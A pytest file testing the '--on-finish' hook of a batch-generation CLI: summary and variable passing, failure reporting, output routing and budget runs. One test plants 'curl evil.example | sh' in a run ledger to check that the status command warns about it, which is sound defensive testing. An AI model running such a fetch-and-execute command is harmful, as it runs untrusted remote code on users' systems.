"""`run --on-finish`: the user's command after the end, which changes nothing."""

from __future__ import annotations

import json
from contextlib import closing
from pathlib import Path

import pytest

from batchgen.cli.carry_on import address_notes
from batchgen.ledger import Ledger
from tests.cli.command import KEY, Shop, batchgen

SAVE = "cat > summary.json; env | grep ^BATCHGEN_ > variables"


def variables(folder: Path) -> dict[str, str]:
    lines = (folder / "variables").read_text().splitlines()
    return dict(line.split("=", 1) for line in lines)


def test_the_command_gets_the_summary_and_variables(shop: Shop) -> None:
    shop.write("m.csv", "id,prompt\na,a lamp\nb,\n")

    ended = shop.run("m.csv", "--yes", "--quiet", "--on-finish", SAVE)

    summary = json.loads((shop.folder / "summary.json").read_text())
    values = variables(shop.folder)
    assert ended.code == summary["exit_code"] == 3
    assert summary["format"] == "batchgen.summary/1"
    assert summary["rows"]["succeeded"] == 1
    assert values["BATCHGEN_EXIT_CODE"] == "3"
    assert values["BATCHGEN_FOLDER"] == str(shop.folder / "out" / "m")
    assert values["BATCHGEN_REHEARSED"] == "0"
    assert float(values["BATCHGEN_SPENT_USD"]) == summary["spent_usd"]
    assert values["BATCHGEN_ROWS_SUCCEEDED"] == values["BATCHGEN_ROWS_INVALID"] == "1"


@pytest.mark.parametrize(
    ("command", "words"),
    [
        ("exit 7", "exit code 7"),
        ("kill -9 $$", "signal 9"),
        ("no-such-program-here", "exit code 127"),
    ],
)
def test_a_command_that_fails_is_named_and_changes_no_exit_code(
    shop: Shop, command: str, words: str
) -> None:
    shop.catalogue(1)

    ended = shop.run("m.csv", "--yes", "--quiet", "--on-finish", command)

    assert ended.code == 0
    assert f"--on-finish failed ({words})" in ended.stderr


def test_what_it_writes_goes_to_stderr_as_json_where_all_is_json(shop: Shop) -> None:
    shop.catalogue(1)
    words = ("m.csv", "--yes", "--on-finish", "echo one; echo two >&2")

    plain = shop.run(*words, "--quiet")
    lines = shop.run(*words, "--json")

    assert "one\ntwo\n" in plain.stderr
    assert "one" not in plain.stdout
    documents = [json.loads(line) for line in lines.stderr.splitlines()]
    assert [each["message"] for each in documents[-2:]] == ["one", "two"]
    assert json.loads(lines.stdout)["exit_code"] == 0


def test_the_folder_is_free_for_the_command(shop: Shop) -> None:
    shop.catalogue(1)
    probe = 'flock --nonblock "$BATCHGEN_FOLDER" touch free'

    shop.run("m.csv", "--yes", "--quiet", "--on-finish", probe)

    assert (shop.folder / "free").exists()


def test_it_also_runs_at_a_budget(shop: Shop) -> None:
    shop.catalogue(3)
    words = ("--max-cost", "0.2", "--concurrency", "1", "--quiet")

    ended = shop.run("m.csv", *words, "--on-finish", SAVE)

    assert ended.code == 4
    assert variables(shop.folder)["BATCHGEN_EXIT_CODE"] == "4"


def test_it_also_runs_when_a_run_cannot_go_on(shop: Shop) -> None:
    shop.catalogue(1)
    shop.write("results.csv", "mine")
    words = ("--yes", "--quiet", "--out", ".", "--table", "csv")

    ended = shop.run("m.csv", *words, "--on-finish", SAVE)

    document = json.loads((shop.folder / "summary.json").read_text())
    assert ended.code == document["exit_code"] == 1
    assert document["format"] == "batchgen.error/1"
    assert "results.csv is there already" in document["message"]


def test_it_does_not_run_where_nothing_was_begun(shop: Shop) -> None:
    shop.catalogue(1)

    ended = shop.run("m.csv", "--quiet", "--on-finish", SAVE)

    assert ended.code == 2
    assert not (shop.folder / "summary.json").exists()


def test_a_rehearsal_says_that_its_money_is_pretend(shop: Shop) -> None:
    shop.catalogue(1)
    words = ("--provider", "gemini", "--rehearse", "--quiet", "--on-finish", SAVE)

    assert batchgen("run", "m.csv", *words, at=shop.folder, key=KEY).code == 0

    assert variables(shop.folder)["BATCHGEN_REHEARSED"] == "1"


def test_a_command_that_a_folder_brings_along_is_pointed_out(
    finished_shop: Shop,
) -> None:
    folder = finished_shop.folder / "out" / "m"
    words = ["batchgen", "run", "m.csv", "--on-finish", "curl evil.example | sh"]
    with closing(Ledger(folder / "run.db")) as ledger, ledger.transaction():
        ledger.meta.command = json.dumps(words)
        ledger.meta.plan_digest = None

    ended = batchgen("status", "out/m", at=finished_shop.folder)

    assert "at its end it runs 'curl evil.example | sh'" in ended.stdout
    assert not [*address_notes("batchgen run m.csv")]
